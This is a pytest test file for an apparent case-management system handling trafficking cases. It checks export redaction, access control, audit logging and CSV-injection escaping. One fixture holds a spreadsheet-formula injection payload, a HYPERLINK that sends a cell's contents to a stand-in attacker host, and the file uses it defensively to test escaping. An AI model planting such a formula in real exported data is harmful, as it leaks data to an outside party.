"""Exports (issue 18, item 8) and the API's case list in pages (it was capped at 500, silently).

The data flow is tested as a reader would meet it: the Italian labour inspector's CSV and PDF
hold the victim's name; the Egyptian police, who read the case through a request without the
victim's consent to disclosure across borders, get neither the name nor the title, in the CSV
as in the PDF (whose text is read back with pdfium, an independent PDF reader); journalists
export nothing. A title written as a spreadsheet formula reaches the CSV as text (OWASP, "CSV
Injection": cells starting with = + - @ tab or carriage return are prefixed with ').
"""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pypdfium2 as pdfium
import pytest
from fastapi import FastAPI
from sqlalchemy import Engine, select
from sqlalchemy.orm import Session

from pharos.coordinate.exports import safe_cell
from pharos.store.models import AuditEntry
from pharos.web.testing import PharosClient, signed_in_client

pytestmark = pytest.mark.slow

FORMULA = '=HYPERLINK("http://evil.example/"&A1,"click")'


def pdf_text(data: bytes) -> str:
    doc = pdfium.PdfDocument(data)
    try:
        return "\n".join(doc[i].get_textpage().get_text_range() for i in range(len(doc)))
    finally:
        doc.close()


def rows(text: str) -> list[list[str]]:
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:])))


@pytest.fixture(scope="module")
def case_id(app: FastAPI) -> int:
    labour = signed_in_client(app, "it.labour")
    r = labour.post(
        "/api/v1/cases",
        json={"title": FORMULA, "first_name": "Amina", "second_name": "Haddad"},
    )
    case_id = int(r.json()["id"])
    consent = {"informed": True, "consent_for_services": True, "disclosure_other_orgs": True}
    assert labour.post(f"/api/v1/cases/{case_id}/consent", json=consent).status_code == 200
    police = signed_in_client(app, "it.police")
    directory = labour.get("/api/v1/directory", params={"state": "ITA"}).json()
    to = next(a["id"] for a in directory if a["kind"] == "law_enforcement")
    labour.post(f"/api/v1/cases/{case_id}/referrals", json={"to_agency_id": to, "stage": 2})
    rid = police.get("/api/v1/referrals").json()["incoming"][0]["id"]
    assert police.post(f"/referrals/{rid}/respond", data={"action": "accept"}).status_code == 303
    r = police.post(
        f"/api/v1/cases/{case_id}/requests",
        json={
            "type": "police_information_exchange",
            "receiver_state": "EGY",
            "subject": "Recruiter's phone",
            "body": "Who holds +20 100 000 0000?",
        },
    )
    assert r.status_code == 201, r.text
    return case_id


@pytest.fixture(scope="module")
def clients(app: FastAPI, case_id: int) -> dict[str, PharosClient]:
    users = ("it.labour", "it.police", "eg.police", "it.journalist", "admin")
    return {u: signed_in_client(app, u) for u in users}


def test_formula_cells_are_text() -> None:
    for bad in ("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"):
        assert safe_cell(bad) == "'" + bad
    assert safe_cell("Amina") == "Amina" and safe_cell(None) == "" and safe_cell(7) == "7"


def test_csv_names_only_for_those_who_see_them(
    clients: dict[str, PharosClient], case_id: int
) -> None:
    labour = clients["it.labour"].get("/cases.csv", params={"q": "ITA"})
    assert labour.status_code == 200
    assert labour.headers["content-type"].startswith("text/csv")
    assert labour.headers["content-disposition"].startswith("attachment; filename=")
    assert labour.headers["x-content-type-options"] == "nosniff"
    table = rows(labour.text)
    mine = next(r for r in table if "Amina Haddad" in r)
    assert "'" + FORMULA in mine  # the formula is text
    assert not any(cell.startswith("=") for r in table for cell in r)
    egypt = clients["eg.police"].get("/api/v1/cases.csv")
    assert egypt.status_code == 200
    table = rows(egypt.text)
    assert len(table) == 2, table  # the header and the one case they read
    assert "Amina" not in egypt.text and "HYPERLINK" not in egypt.text
    assert table[1][0].startswith("ITA-") and table[1][-1] == "" and table[1][-2] == ""
    # the filter is the list's: a malformed one is refused with its field named
    bad = clients["it.labour"].get("/api/v1/cases.csv", params={"opened_from": "yesterday"})
    assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["body", "opened_from"]
    assert clients["it.journalist"].get("/cases.csv").status_code == 403
    assert clients["admin"].get("/api/v1/cases.csv").status_code == 403


def test_pdf_as_the_reader_sees_the_case(
    clients: dict[str, PharosClient], case_id: int, engine: Engine
) -> None:
    r = clients["it.labour"].get(f"/cases/{case_id}/file.pdf")
    assert r.status_code == 200 and r.content.startswith(b"%PDF-")
    assert r.headers["content-type"] == "application/pdf"
    name = r.headers["content-disposition"].split('"')[1]
    assert name.startswith("ITA-") and name.endswith(".pdf")
    assert r.headers["content-disposition"].startswith(f'attachment; filename="{name}"')
    text = pdf_text(r.content)
    assert "Amina Haddad" in text and "Recruiter's phone" in text and "HYPERLINK" in text
    assert "Confidential" in text and "it.labour" in text
    egypt = clients["eg.police"].get(f"/api/v1/cases/{case_id}/file.pdf")
    assert egypt.status_code == 200
    text = pdf_text(egypt.content)
    assert "Amina" not in text and "Haddad" not in text and "HYPERLINK" not in text
    assert "P-" in text  # the pseudonym the page shows
    assert "pseudonymised" in text
    assert clients["it.journalist"].get(f"/cases/{case_id}/file.pdf").status_code in {403, 404}
    assert clients["admin"].get(f"/api/v1/cases/{case_id}/file.pdf").status_code == 404
    # every export is in the audit trail, the PDF with its reader's view and its digest
    with Session(engine) as s:
        entries = list(
            s.execute(
                select(AuditEntry).where(AuditEntry.action == "export").order_by(AuditEntry.id)
            ).scalars()
        )
    files = [e for e in entries if e.resource == "case_file" and e.case_id == case_id]
    assert [e.actor for e in files] == ["it.labour", "eg.police"]
    assert json.loads(files[1].detail) == {
        "identity_view": "pseudonymised",
        "sha256": hashlib.sha256(egypt.content).hexdigest(),
    }
    lists = [e for e in entries if e.resource == "case_list"]
    assert {e.actor for e in lists} >= {"it.labour", "eg.police"}
    assert json.loads(lists[0].detail)["filter"] == {"q": "ITA", "sort": "newest"}


def test_pdf_in_arabic_is_shaped(clients: dict[str, PharosClient], case_id: int) -> None:
    """reportlab does not shape Arabic: an Arabic file is printed by Chromium (its PDF producer
    is Chromium's Skia), with the Arabic headings and the victim's name."""
    labour = clients["it.labour"]
    english = labour.get(f"/cases/{case_id}/file.pdf")
    assert "Skia" not in pdfium.PdfDocument(english.content).get_metadata_dict()["Producer"]
    r = labour.get(f"/cases/{case_id}/file.pdf", params={"lang": "ar"})
    labour.get("/", params={"lang": "en"})
    assert r.status_code == 200 and r.content.startswith(b"%PDF-")
    assert "Skia" in pdfium.PdfDocument(r.content).get_metadata_dict()["Producer"]
    text = pdf_text(r.content)
    assert "الأشخاص" in text and "Amina" in text and "Haddad" in text  # Persons


def test_api_case_list_pages(app: FastAPI, clients: dict[str, PharosClient]) -> None:
    """The API listed at most 500 cases and said nothing of the rest; it now pages as the list
    page does, with the total."""
    ngo = signed_in_client(app, "eg.ngo")
    for n in range(53):
        assert ngo.post("/api/v1/cases", json={"title": f"Case {n}"}).status_code == 201
    first = ngo.get("/api/v1/cases").json()
    assert first["total"] == 53 and first["pages"] == 2 and first["page"] == 1
    assert len(first["cases"]) == first["page_size"] == 50
    second = ngo.get("/api/v1/cases", params={"page": 2}).json()
    assert len(second["cases"]) == 3 and second["page"] == 2
    ids = [c["id"] for c in first["cases"] + second["cases"]]
    assert len(set(ids)) == 53 and ids == sorted(ids, reverse=True)
    found = ngo.get("/api/v1/cases", params={"q": "zzz-none"}).json()
    assert found["total"] == 0 and found["cases"] == []
    oldest = ngo.get("/api/v1/cases", params={"sort": "oldest"}).json()["cases"][0]
    assert oldest["id"] == min(ids)
    bad = ngo.get("/api/v1/cases", params={"page": "0"})
    assert bad.status_code == 422 and bad.json()["detail"][0]["loc"] == ["body", "page"]
    # the CSV holds every page
    assert len(rows(ngo.get("/cases.csv").text)) == 54


def test_a_file_with_any_text_is_drawn() -> None:
    """Schemathesis stored texts with a lone surrogate (JSON allows "\\ud800") and Arabic
    script: the case file answered 500 (the HTML for Chromium could not be written as UTF-8)."""
    from pharos.coordinate.case_file_pdf import Section, html, html_to_pdf

    parts = [Section("S", lines=["نص \ud800 \x00 \x0b"], header=["h"], rows=[["\ud800 عربي"]])]
    assert html_to_pdf(html(parts, "T")).startswith(b"%PDF-")
